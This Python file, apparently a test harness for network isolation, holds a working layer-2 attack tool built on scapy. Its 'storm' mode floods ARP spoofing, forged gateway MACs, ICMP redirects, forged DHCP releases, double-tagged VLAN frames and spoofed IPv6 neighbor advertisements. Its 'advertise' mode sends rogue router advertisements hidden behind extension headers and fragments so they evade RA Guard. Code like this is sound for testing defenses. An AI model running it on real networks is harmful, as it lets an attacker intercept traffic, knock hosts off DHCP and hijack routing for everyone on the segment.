# SPDX-License-Identifier: MIT
"""What a hostile guest sends.

attack.py storm INTERFACE OWN_MAC OWN_IP VICTIM_MAC VICTIM_IP THIRD_IPV6 DHCP_MAC
    pretends to be everybody else, round after round, until it gets SIGTERM; tells of each hundredth round
attack.py advertise INTERFACE OWN_MAC OWN_LINK_LOCAL
    advertises itself as a router once in each disguise, with a prefix 2001:db8:bad:N::/64 each
"""
import signal
import socket
import sys
import time

from scapy.all import (
    ARP, BOOTP, DHCP, ICMP, IP, UDP, Dot1Q, Ether, ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, PadN,
    Raw, raw)

GATEWAY = "10.0.2.1"
GATEWAY_MAC = "02:dd:00:00:00:01"
ALL = "ff:ff:ff:ff:ff:ff"
ALL_NODES = "33:33:00:00:00:01"
PING_ID = 0x6666
PACE = 0.005


def link(interface):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sock.bind((interface, 0))
    sock.setblocking(False)
    return sock


def send(sock, frame):
    try:
        sock.send(frame)
    except (BlockingIOError, OSError):
        pass  # the queue is full; the next round comes


def is_echo_reply(frame):
    return frame[12:14] == b"\x08\x00" and frame[23] == 1 and frame[34] == 0 and frame[38:40] == b"\x66\x66"


def lies(own, own_ip, victim, victim_ip, third, dhcp):
    ping = ICMP(id=PING_ID)
    frames = []
    for station in (GATEWAY_MAC, dhcp):
        frames.append(Ether(src=station, dst=victim) / IP(src=own_ip, dst=victim_ip) / ping)
        frames.append(Ether(src=station, dst=ALL) / ARP(op=2, hwsrc=station, psrc=own_ip, hwdst=ALL, pdst=own_ip))
    for station in ("00:00:00:00:00:00", "01:00:5e:00:00:05", ALL):
        frames.append(Ether(src=station, dst=victim) / IP(src=own_ip, dst=victim_ip) / ping)
    for address in (GATEWAY, victim_ip):
        frames.append(Ether(src=own, dst=ALL) / ARP(op=1, hwsrc=own, psrc=address, pdst=address))
        frames.append(Ether(src=own, dst=victim) / ARP(op=2, hwsrc=own, psrc=address, hwdst=victim, pdst=victim_ip))
    frames += [
        Ether(src=own, dst=victim) / ARP(op=2, hwsrc=GATEWAY_MAC, psrc=own_ip, hwdst=victim, pdst=victim_ip),
        Ether(src=own, dst=victim) / IP(src=GATEWAY, dst=victim_ip) / ping,
        Ether(src=own, dst=ALL) / IP(src=victim_ip, dst=GATEWAY) / ping,
        Ether(src=own, dst=ALL) / IP(src=own_ip, dst=GATEWAY) / ping,
        Ether(src=victim, dst=GATEWAY_MAC) / IP(src=victim_ip, dst=GATEWAY) / ping,
        Ether(src=victim, dst=ALL) / ARP(op=1, hwsrc=victim, psrc=victim_ip, pdst=victim_ip),
        Ether(src=own, dst=victim) / IP(src=own_ip, dst=victim_ip) / ICMP(type=5, code=1, gw=own_ip)
        / IP(src=victim_ip, dst="192.0.2.1") / UDP(),
        Ether(src=own, dst=ALL) / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
        / BOOTP(op=1, chaddr=bytes.fromhex(victim.replace(":", "")), ciaddr=victim_ip)
        / DHCP(options=[("message-type", "release"), "end"]),
        Ether(src=own, dst=victim) / Dot1Q(vlan=0) / Dot1Q(vlan=7) / IP(src=GATEWAY, dst=victim_ip) / ping,
        Ether(src=own, dst="01:80:c2:00:00:00") / Raw(bytes(46)),
        # for an address of a neighbour, once with its own station in the option and once with another
        Ether(src=own, dst=ALL_NODES) / IPv6(src=third, dst="ff02::1", hlim=255)
        / ICMPv6ND_NA(R=1, S=0, O=1, tgt=third) / ICMPv6NDOptDstLLAddr(lladdr=own),
        Ether(src=own, dst=ALL_NODES) / IPv6(src=third, dst="ff02::1", hlim=255)
        / ICMPv6ND_NA(R=1, S=0, O=1, tgt=third) / ICMPv6NDOptDstLLAddr(lladdr=victim),
    ]
    return [raw(frame) for frame in frames]


def storm(interface, *who):
    frames = lies(*who)
    sock = link(interface)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.alarm(240)
    rounds = replies = 0
    while not stop:
        for frame in frames:
            send(sock, frame)
        try:
            while True:
                replies += is_echo_reply(sock.recv(2048))
        except BlockingIOError:
            pass
        rounds += 1
        if rounds % 100 == 0:
            print("round", rounds, flush=True)
        time.sleep(PACE)
    print("replies", replies, flush=True)


def advertise(interface, own, address):
    sock = link(interface)
    pad = PadN(optdata=bytes(4))

    def ether(packet):
        return raw(Ether(src=own, dst=ALL_NODES) / packet)

    def packet(number, *headers):
        chain = IPv6(src=address, dst="ff02::1", hlim=255)
        for header in headers:
            chain = chain / header
        return (chain / ICMPv6ND_RA(routerlifetime=1800)
                / ICMPv6NDOptPrefixInfo(prefixlen=64, prefix=f"2001:db8:bad:{number}::", L=1, A=1,
                                        validlifetime=3600, preferredlifetime=3600)
                / ICMPv6NDOptSrcLLAddr(lladdr=own))

    def fragments(number, whole, first, cut):
        data = raw(whole)[40:]
        ip = IPv6(src=address, dst="ff02::1", hlim=255)
        head = IPv6ExtHdrFragment(nh=first, offset=0, m=1, id=number)
        tail = IPv6ExtHdrFragment(nh=first, offset=cut // 8, m=0, id=number)
        return [ip / head / Raw(data[:cut]), ip / tail / Raw(data[cut:])]

    packets = [
        packet(1),
        packet(2, IPv6ExtHdrHopByHop(options=[pad])),
        packet(3, IPv6ExtHdrDestOpt(options=[pad])),
        packet(4, IPv6ExtHdrHopByHop(options=[pad]), *[IPv6ExtHdrDestOpt(options=[pad]) for _ in range(3)]),
        packet(5, IPv6ExtHdrFragment(id=5)),
    ]
    packets += fragments(6, packet(6), 58, 24)
    # the header chain ends in the second fragment
    packets += fragments(7, packet(7, IPv6ExtHdrDestOpt(options=[PadN(optdata=bytes(52))])), 60, 56)
    packets += fragments(8, packet(8, *[IPv6ExtHdrDestOpt(options=[pad]) for _ in range(2)]), 60, 8)
    for each in packets:
        sock.setblocking(True)
        sock.send(ether(each))
    print("sent", len(packets), flush=True)


if __name__ == "__main__":
    {"storm": storm, "advertise": advertise}[sys.argv[1]](*sys.argv[2:])
